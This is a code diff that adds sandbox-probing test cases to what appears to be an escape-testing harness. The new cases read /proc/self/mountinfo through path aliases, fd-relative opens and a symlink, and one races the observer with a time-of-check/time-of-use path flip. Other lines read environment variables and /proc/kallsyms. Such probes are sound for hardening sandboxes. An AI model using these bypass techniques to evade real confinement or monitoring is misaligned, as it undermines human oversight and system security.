@@ -717,7 +717,62 @@ def b64file(path):
         return base64.b64encode(f.read()).decode()
 
 
+def read_fd_b64(fd):
+    data = b""
+    while True:
+        chunk = os.read(fd, 65536)
+        if not chunk:
+            break
+        data += chunk
+    os.close(fd)
+    return base64.b64encode(data).decode()
+
+
+def mountinfo_toctou(target, iterations=4000):
+    """Race the observer: flip the path between an allowed file and `target`; return the
+    first content read that is not the allowed file's."""
+    a, b = b"/workdir/attack.py\0", target.encode() + b"\0"
+    buf = ctypes.create_string_buffer(max(len(a), len(b)) + 1)
+    with open("/workdir/attack.py", "rb") as f:
+        mine = f.read()
+    stop = threading.Event()
+
+    def flipper():
+        while not stop.is_set():
+            ctypes.memmove(buf, a, len(a))
+            ctypes.memmove(buf, b, len(b))
+    t = threading.Thread(target=flipper)
+    t.start()
+    try:
+        for _ in range(iterations):
+            fd = libc.open(buf, os.O_RDONLY)
+            if fd < 0:
+                continue
+            data = base64.b64decode(read_fd_b64(fd))
+            if data != mine:
+                return base64.b64encode(data).decode()
+    finally:
+        stop.set()
+        t.join()
+    raise OSError(errno.EACCES, "never opened")
+
+
+def mountinfo_symlink():
+    os.symlink("/proc/self/mountinfo", "/workdir/out/mi")
+    return read_fd_b64(os.open("/workdir/out/mi", os.O_RDONLY))
+
+
 def group_info(args):
+    proc_self = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
+    case("info.mountinfo_openat", lambda: read_fd_b64(os.open("mountinfo", os.O_RDONLY, dir_fd=proc_self)))
+    case("info.mountinfo_fd_path", lambda: read_fd_b64(os.open("/proc/self/fd/%d/mountinfo" % proc_self,
+                                                                os.O_RDONLY)))
+    case("info.mountinfo_thread_self", lambda: read_fd_b64(os.open("/proc/thread-self/mountinfo", os.O_RDONLY)))
+    case("info.mountinfo_task", lambda: read_fd_b64(os.open("/proc/1/task/1/mountinfo", os.O_RDONLY)))
+    case("info.mountinfo_root", lambda: read_fd_b64(os.open("/proc/self/root/proc/1/mountinfo", os.O_RDONLY)))
+    case("info.mountinfo_slashes", lambda: read_fd_b64(os.open("//proc///self/./mountinfo", os.O_RDONLY)))
+    case("info.mountinfo_symlink", mountinfo_symlink)
+    case("info.mountinfo_toctou", lambda: mountinfo_toctou("/proc/self/mountinfo"))
     case("info.env", lambda: ",".join(sorted(os.environ)))
     case("info.manifest_env", lambda: os.environ["ESCAPE_MANIFEST_VAR"])
     case("info.kallsyms", lambda: len(open("/proc/kallsyms", "rb").read()))
